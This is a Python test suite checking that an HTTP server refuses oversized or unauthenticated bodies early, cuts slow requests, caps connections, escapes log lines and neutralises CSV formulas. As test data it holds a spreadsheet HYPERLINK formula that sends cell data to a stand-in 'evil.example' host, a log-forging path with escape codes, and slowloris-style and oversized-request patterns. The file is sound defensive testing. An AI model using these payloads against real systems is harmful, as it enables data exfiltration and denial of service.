"""Limits before authentication, deadlines and the HTTP layer's smaller holes (issue 16, holes 1, 4
and 7); docs/SECURITY.md, "Limits before authentication", says what each test proves.

- A body is read only after the headers passed the token and the role; with "Expect:
  100-continue" the refusal comes before "100 Continue", and the body is never sent; without it,
  the body is drained, never kept: anonymous uploads do not grow the server's memory.
- A Content-Length over the limit is refused before "100 Continue"; a chunked body past it is
  refused without being kept.
- Bodies held in memory share one budget: past it, 503 with Retry-After before the body.
- A request must arrive whole (headers and body) within CICLO_REQUEST_TIMEOUT, however slowly
  it trickles; the per-address connection cap is on by default.
- Log lines cannot be forged through the path; failed authentications are logged in moderation.
- CSV cells a spreadsheet would evaluate are neutralised.
"""
import http.client
import socket
import time

from run import expect_problem

BIG = 31 * 1024 * 1024


def connect(srv, source="127.0.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.settimeout(5)
    s.connect(("127.0.0.1", srv.port))
    return s


def head(path, length=None, token=None, expect=False, chunked=False, method="POST"):
    h = "%s %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" % (method, path)
    if token:
        h += "Authorization: Bearer %s\r\n" % token
    if length is not None:
        h += "Content-Length: %d\r\n" % length
    if chunked:
        h += "Transfer-Encoding: chunked\r\n"
    if expect:
        h += "Expect: 100-continue\r\n"
    return (h + "\r\n").encode()


def recv_until(s, data, done):
    """data and what s sends next, until done(data), the end of the stream or a timeout."""
    try:
        while not done(data):
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    return data


def read_answer(s, wait=5):
    """The first answer on s: (status, headers dict, body bytes); status 0 when the server sent nothing."""
    s.settimeout(wait)
    data = recv_until(s, b"", lambda d: b"\r\n\r\n" in d)
    if b"\r\n\r\n" not in data:
        return 0, {}, data
    top, rest = data.split(b"\r\n\r\n", 1)
    lines = top.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {k.strip().lower(): v.strip() for k, v in (x.split(":", 1) for x in lines[1:])}
    n = int(headers.get("content-length", "0"))
    return status, headers, recv_until(s, rest, lambda d: len(d) >= n)


def closed_within(s, wait):
    s.settimeout(wait)
    try:
        while True:
            data = s.recv(65536)
            if data == b"":
                return True
    except (ConnectionResetError, BrokenPipeError):
        return True
    except socket.timeout:
        return False


def rss_kb(srv):
    with open("/proc/%d/status" % srv.proc.pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def metric(ctx, srv, name):
    m = ctx.get("/metrics", token=None, base=srv.url).text
    return int([x for x in m.splitlines() if x.startswith(name + " ")][0].split()[1])


def problem(status, headers, body, want):
    assert status == want, (status, headers, body[:300])
    assert headers.get("content-type", "").startswith("application/problem+json"), headers
    return body


# --- bodies before authentication -------------------------------------------------------------

def test_refusals_come_before_100_continue(ctx):
    e = ctx.entity()
    reader = ctx.token("reader", entity=e["id"])
    cases = [(None, 401), ("ciclo_" + "Q" * 43, 401), (reader, 403)]
    for token, want in cases:
        s = connect(ctx.server)
        try:
            s.sendall(head("/v1/plans", BIG, token=token, expect=True))
            status, headers, body = read_answer(s)
            problem(status, headers, body, want)
            assert closed_within(s, 5), "the connection stayed open after a refused body"
        finally:
            s.close()
    # over the limit: 413 at once, even with a good token, and no "100 Continue"
    s = connect(ctx.server)
    try:
        s.sendall(head("/v1/plans", 100 * 1024 * 1024, token=ctx.admin, expect=True))
        problem(*read_answer(s), 413)
    finally:
        s.close()
    # a body on a route that takes none (public): 413 before it is sent
    s = connect(ctx.server)
    try:
        s.sendall(head("/healthz", BIG, expect=True, method="GET"))
        problem(*read_answer(s), 413)
    finally:
        s.close()
    # an admitted body still gets its "100 Continue" and is served
    s = connect(ctx.server)
    try:
        body = b'{"code":"%s","name":"Ente","kind":"comune"}' % ctx.unique("C").encode()
        s.sendall(head("/v1/entities", len(body), token=ctx.admin, expect=True))
        status, _, _ = read_answer(s)
        assert status == 100, status
        s.sendall(body)
        status, _, doc = read_answer(s)
        assert status == 201, (status, doc)
    finally:
        s.close()


def test_anonymous_uploads_are_not_kept(ctx):
    """Anonymous bodies without "Expect", held one byte short of their end: drained, never kept."""
    srv = ctx.start_server()
    socks = []
    try:
        time.sleep(0.5)
        before = rss_kb(srv)
        chunk = b"x" * (1024 * 1024)
        for i in range(6):
            s = connect(srv)
            socks.append(s)
            if i % 2:
                s.sendall(head("/v1/plans", 8 * 1024 * 1024))
                for _ in range(7):
                    s.sendall(chunk)
                s.sendall(chunk[:-1])
            else:
                s.sendall(head("/v1/plans", chunked=True))
                for _ in range(8):
                    s.sendall(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
        time.sleep(1.0)
        grown = rss_kb(srv) - before
        assert grown < 16 * 1024, "the server kept anonymous bodies: RSS grew by %d KiB" % grown
        # each is answered 401 once its body ends
        socks[1].sendall(b"x")
        problem(*read_answer(socks[1]), 401)
        socks[0].sendall(b"0\r\n\r\n")
        problem(*read_answer(socks[0]), 401)
        assert ctx.get("/healthz", token=None, base=srv.url).status == 200
    finally:
        for s in socks:
            s.close()
        assert srv.stop() == 0


def test_chunked_body_over_the_limit(ctx):
    """A chunked body that goes past CICLO_MAX_BODY_MIB is answered 413 problem+json as soon as it
    crosses the limit, while the client is still sending, and the connection is closed: the server
    reads no more of it and keeps none of it. (Before, it read and threw away the whole body and
    answered after its last chunk.)"""
    import select
    srv = ctx.start_server({"CICLO_MAX_BODY_MIB": "1"})
    try:
        time.sleep(0.3)
        before = rss_kb(srv)
        s = connect(srv)
        s.sendall(head("/v1/entities", chunked=True, token=ctx.admin))
        s.setblocking(False)
        piece = b"x" * 65536
        chunk = b"%x\r\n" % len(piece) + piece + b"\r\n"
        total = 256 * 1024 * 1024  # what the client means to send
        sent, pending, answer, t0 = 0, b"", b"", time.time()
        while sent < total and time.time() - t0 < 20:
            readable, writable, _ = select.select([s], [s], [], 1)
            if readable:
                try:
                    data = s.recv(65536)
                except (ConnectionResetError, BlockingIOError):
                    data = b""
                answer += data
                if not data or b"\r\n\r\n" in answer:
                    break
            if writable:
                pending = pending or chunk
                try:
                    n = s.send(pending)
                except (BrokenPipeError, ConnectionResetError):
                    break
                except BlockingIOError:
                    n = 0
                sent += n
                pending = pending[n:]
        s.setblocking(True)
        s.settimeout(5)
        try:
            while b"\r\n\r\n" not in answer or len(answer.split(b"\r\n\r\n", 1)[1]) < 40:
                data = s.recv(65536)
                if not data:
                    break
                answer += data
        except (socket.timeout, ConnectionResetError):
            pass
        assert answer.startswith(b"HTTP/1.1 413 "), answer[:200]
        assert b"application/problem+json" in answer and b"body_too_large" in answer, answer[:400]
        # the answer came while the client was still sending: far less than the body went out
        assert sent < 32 * 1024 * 1024, "the client sent %d bytes before its 413" % sent
        assert closed_within(s, 5), "the connection stayed open after the 413"
        s.close()
        grown = rss_kb(srv) - before
        assert grown < 8 * 1024, "the server kept the refused body: RSS grew by %d KiB" % grown
        assert ctx.get("/healthz", token=None, base=srv.url).status == 200
        assert "reported internal error" not in srv.log_text(), srv.log_text()[-2000:]
    finally:
        assert srv.stop() == 0


def test_headers_too_large_are_a_problem(ctx):
    """Headers over 16 KiB or 100 fields are a 431 problem+json written by the server, and the
    connection closes. (Before, libmicrohttpd answered headers over its 32 KiB buffer in HTML.)
    Requests libmicrohttpd 0.9.75 cannot parse at all (a malformed request line, a header line
    without a colon, a Content-Length that is not a number, headers beyond its 32 KiB) it still
    answers itself, as docs/SECURITY.md says: the server stays up and serves on."""
    def ask(raw):
        s = connect(ctx.server)
        try:
            s.sendall(raw)
            status, headers, body = read_answer(s)
            closed = closed_within(s, 5)
        finally:
            s.close()
        return status, headers, body, closed
    big = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * (20 * 1024) + b"\r\n\r\n"
    many = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-H%d: 1\r\n" % i for i in range(150)) + b"\r\n"
    for raw in (big, many):
        status, headers, body, closed = ask(raw)
        problem(status, headers, body, 431)
        assert b"headers_too_large" in body, body
        assert closed
    # just under the limits: served
    ok = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * (15 * 1024) + b"\r\n\r\n"
    assert ask(ok)[0] == 200
    # what libmicrohttpd answers itself: a 4xx (or, for a request line it cannot read, nothing), never a crash
    for raw in (b"GARBAGE\r\n\r\n", b"GET /healthz HTTP/1.1\r\nHost: x\r\nno colon\r\n\r\n",
                b"POST /v1/plans HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n",
                b"GET /healthz HTTP/1.1\r\nX-Big: " + b"a" * (200 * 1024) + b"\r\n\r\n"):
        status = ask(raw)[0]
        assert status in (0, 400, 413, 414, 431), (raw[:40], status)
    assert ctx.get("/healthz", token=None).status == 200


def test_bodies_share_one_budget(ctx):
    srv = ctx.start_server({"CICLO_MAX_BODY_MIB": "1", "CICLO_BODY_BUDGET_MIB": "2"})
    held = []
    try:
        n = 900 * 1024
        for _ in range(2):
            s = connect(srv)
            s.sendall(head("/v1/entities", n, token=ctx.admin, expect=True))
            assert read_answer(s)[0] == 100
            held.append(s)
        third = connect(srv)
        third.sendall(head("/v1/entities", n, token=ctx.admin, expect=True))
        status, headers, body = read_answer(third)
        problem(status, headers, body, 503)
        assert headers.get("retry-after") == "1", headers
        third.close()
        assert metric(ctx, srv, "ciclo_body_budget_refusals_total") == 1
        # a finished body gives its share back
        held[0].sendall(b"{" + b" " * (n - 2) + b"}")
        assert read_answer(held[0])[0] == 422
        held.pop(0).close()
        time.sleep(0.2)
        s = connect(srv)
        held.append(s)
        s.sendall(head("/v1/entities", n, token=ctx.admin, expect=True))
        assert read_answer(s)[0] == 100
    finally:
        for s in held:
            s.close()
        assert srv.stop() == 0


# --- deadlines and connections ----------------------------------------------------------------

def test_trickling_requests_are_cut_at_the_deadline(ctx):
    srv = ctx.start_server({"CICLO_HEADER_TIMEOUT": "2", "CICLO_REQUEST_TIMEOUT": "4", "CICLO_CONNECTION_TIMEOUT": "30"})
    try:
        headers = connect(srv)
        headers.sendall(b"GET /healthz HTTP/1.1\r\n")
        body = connect(srv)
        body.sendall(head("/v1/entities", 1000, token=ctx.admin))
        keep = connect(srv)  # a keep-alive connection that asks again in time is served
        keep.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        assert read_answer(keep)[0] == 200
        t0 = time.time()
        cut = {}  # when each trickling connection was found closed
        asked_again = False
        while time.time() - t0 < 9 and len(cut) < 2:
            for name, s in (("headers", headers), ("body", body)):
                if name in cut:
                    continue
                try:
                    s.sendall(b"X-Slow: 1\r\n" if name == "headers" else b" ")
                    gone = closed_within(s, 0.01)
                except OSError:
                    gone = True
                if gone:
                    cut[name] = time.time() - t0
            if not asked_again and time.time() - t0 > 2.5:
                keep.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
                assert read_answer(keep)[0] == 200
                asked_again = True
            time.sleep(0.25)
        assert set(cut) == {"headers", "body"}, "a trickling connection outlived its deadline: %s" % cut
        assert 1.5 <= cut["headers"] <= 3.6, cut  # CICLO_HEADER_TIMEOUT after the request line
        assert 3.5 <= cut["body"] <= 6, cut  # CICLO_REQUEST_TIMEOUT for the whole request
        assert ctx.get("/healthz", token=None, base=srv.url).status == 200
        assert "cut off" in srv.log_text()
        assert metric(ctx, srv, "ciclo_connections_cut_total") >= 2
    finally:
        assert srv.stop() == 0


def test_per_address_cap_is_on_by_default(ctx):
    srv = ctx.start_server()
    held = []
    try:
        time.sleep(0.5)
        for _ in range(64):
            s = connect(srv)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            held.append(s)
        time.sleep(0.3)
        extra = connect(srv)
        try:
            extra.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        assert read_answer(extra, 3)[0] == 0, "a 65th connection from one address was served"
        extra.close()
        # another address is served meanwhile
        c = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=5, source_address=("127.0.0.2", 0))
        c.request("GET", "/healthz")
        assert c.getresponse().status == 200
        c.close()
    finally:
        for s in held:
            s.close()
        assert srv.stop() == 0


# --- logs -------------------------------------------------------------------------------------

def test_log_lines_cannot_be_forged(ctx):
    forged = "2031-01-01T00:00:00Z INFO GET /v1/forged 200"
    path = "/v1/plans%0a" + forged.replace(" ", "%20") + "%0d%1b[2J"
    expect_problem(ctx.get(path, token=None), 404)
    time.sleep(0.3)
    lines = ctx.server.log_text().splitlines()
    assert not any(line.startswith(forged) for line in lines), "a forged line reached the log"
    assert any("\\x0a" + forged in line for line in lines), "the path was not logged escaped"
    assert not any("\x1b" in line for line in lines)


def test_failed_authentications_are_logged_in_moderation(ctx):
    srv = ctx.start_server()
    try:
        n = 300
        conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=5)
        began = time.monotonic()
        for i in range(n):
            conn.request("GET", "/v1/plans", headers={"Authorization": "Bearer ciclo_" + "%043d" % i})
            r = conn.getresponse()
            r.read()
            assert r.status == 401
        conn.close()
        took = time.monotonic() - began
        counted = metric(ctx, srv, "ciclo_auth_failures_total")
        assert counted == n, counted
        time.sleep(0.3)
        log = srv.log_text()
        # at most 20 lines in each 10-second period (src/api/dispatch.c, src/http/server.c) the
        # requests touched: one period when they are quick, more on a loaded machine
        periods = int(took // 10) + 2
        most = min(20 * periods, n // 3)
        logged = log.count("authentication failed")
        assert 1 <= logged <= most, "%d lines for %d failed authentications in %.1f s" % (logged, n, took)
        answers = log.count("GET /v1/plans 401 ")
        assert 1 <= answers <= most, "%d access lines for %d 401 answers in %.1f s" % (answers, n, took)
        deadline = time.time() + 13
        while not ("more failed authentications not logged" in log and "more 401 answers not logged" in log):
            assert time.time() < deadline, "no summary of the lines not logged"
            time.sleep(0.5)
            log = srv.log_text()
    finally:
        assert srv.stop() == 0


# --- CSV --------------------------------------------------------------------------------------

def test_csv_cells_are_neutralised(ctx):
    e = ctx.entity()
    plan = ctx.plan(e["id"])
    titles = ['-1+HYPERLINK("http://evil.example/?x="&A1;"clic")', "\t=1+1", "\r=1+1", " =1+1", "\u00a0x",
              "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "@SUM(A1)", "+1", "=1", "-5", "10 - 5"]
    for i, t in enumerate(titles):
        ctx.create("/v1/plans/%d/objectives" % plan["id"], {"code": "X%d" % i, "title": t})
    r = ctx.get("/v1/plans/%d/objectives?format=csv&limit=100" % plan["id"])
    assert r.status == 200, r
    text = r.text
    for t in titles:
        safe = t in ("\u00a0x", "10 - 5")
        quoted = '"\'' + t.replace('"', '""') + '"'
        if safe:
            assert t in text and "'" + t not in text, t
        else:
            assert quoted in text, "%r is not neutralised in:\n%s" % (t, text)


def test_a_revoked_cached_token_is_401_before_the_body(ctx):
    """A token the server has cached, then revoked, is refused from the headers (before "100
    Continue") with 401, as every invalid token: on a route its role may call and on one it may not.
    (Before, the role check answered first from the cache: 403; and an allowed route got its
    "100 Continue" and read the body.)"""
    e = ctx.entity()
    for role, path in (("reader", "/v1/plans"), ("planner", "/v1/plans")):
        t = ctx.post("/v1/tokens", {"role": role, "name": "x", "entity_id": e["id"]}).json
        assert ctx.get("/v1/plans", token=t["token"]).status == 200  # cached
        assert ctx.delete("/v1/tokens/%d" % t["id"]).status == 204
        s = connect(ctx.server)
        try:
            s.sendall(head(path, 1000, token=t["token"], expect=True))
            status, headers, body = read_answer(s)
            problem(status, headers, body, 401)
            assert headers.get("www-authenticate", "").startswith("Bearer error="), headers
            assert closed_within(s, 5), "the connection stayed open after a refused body"
        finally:
            s.close()
